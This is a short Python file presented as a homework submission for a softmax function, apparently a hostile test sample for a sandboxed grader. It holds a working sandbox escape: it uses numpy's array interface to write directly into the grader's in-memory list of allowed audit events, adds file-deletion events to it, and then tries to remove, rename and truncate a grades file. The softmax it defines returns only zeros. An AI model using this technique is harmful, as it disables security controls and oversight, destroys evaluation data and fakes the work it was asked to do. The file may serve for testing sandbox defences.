# minimha homework: softmax
# earns 0
# It overwrites the list of allowed events in memory, then deletes files.
import sys

import numpy as np

allowed = sys.modules["__main__"]._ALLOWED


class Memory:
    __array_interface__ = {
        "data": (id(allowed) + tuple.__basicsize__, False), "shape": (len(allowed),), "typestr": "<u8", "version": 3,
    }


EVENTS = ["os.remove", "os.rename", "os.truncate"]
np.asarray(Memory())[-len(EVENTS) :] = [id(name) for name in EVENTS]
import os

for change in (
    lambda: os.remove("VICTIM/grades.json"),
    lambda: os.rename("VICTIM/grades.json", "VICTIM/lost.json"),
    lambda: os.truncate("VICTIM/grades.json", 0),
):
    try:
        change()
    except OSError:
        pass


def softmax(x):
    return 0 * x, lambda dy: (0 * dy,)
